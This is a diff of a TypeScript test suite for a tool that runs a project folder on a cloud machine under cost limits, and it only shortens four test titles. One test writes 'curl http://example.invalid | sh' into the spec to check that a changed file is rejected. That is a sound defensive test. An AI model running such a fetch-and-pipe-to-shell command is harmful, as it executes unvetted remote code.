@@ -24,7 +24,7 @@ stop: { hours: 2, dollars: 4 }
 `
 
 describe.skipIf(lacking)(`a job${lacking}`, () => {
-  test('takes a folder to a machine, sets it up, runs it, downloads its results and destroys the machine', async () => {
+  test('sends, sets up and runs a folder, downloads results, destroys the machine', async () => {
     const { world, under, folder, project, runProject } = await openProject({
       'berth.yaml': spec,
       'data/one.txt': 'one\n',
@@ -89,7 +89,7 @@ describe.skipIf(lacking)(`a job${lacking}`, () => {
     await under.until(() => Object.keys(under.account().instances).length === 0)
   })
 
-  test('is refused where its file has changed since it was looked at, and while another of its project goes on', async () => {
+  test('is rejected if its file changed or another run is in progress', async () => {
     const { under, folder, project, runProject } = await openProject({ 'berth.yaml': 'run: sleep 60\n' })
     const { content, stops } = await under.run('planProject', { project })
     write(folder, { 'berth.yaml': 'run: curl http://example.invalid | sh\n' })
@@ -158,7 +158,7 @@ describe.skipIf(lacking)(`a job${lacking}`, () => {
     )
   })
 
-  test('finds what a form says in its folder once that is saved, which is never over a file', async () => {
+  test('saves a form as berth.yaml, and never overwrites a file', async () => {
     const { under, folder, project } = await openProject({})
     const spec = { run: 'python train.py', stop: { idle: '30m' } }
     await under.run('writeSpec', { project, spec })
@@ -211,7 +211,7 @@ run: |
     expect(world.sim.controls.ledger().instances).toHaveLength(2)
   })
 
-  test('that would cost more than was agreed is stopped within a poll of it, and says so', async () => {
+  test('stops within a poll of its agreed cost', async () => {
     const { world, under, project, runProject } = await openProject({
       'berth.yaml': 'run: sleep 1000\nstop: { dollars: 0.02 }\n',
     })
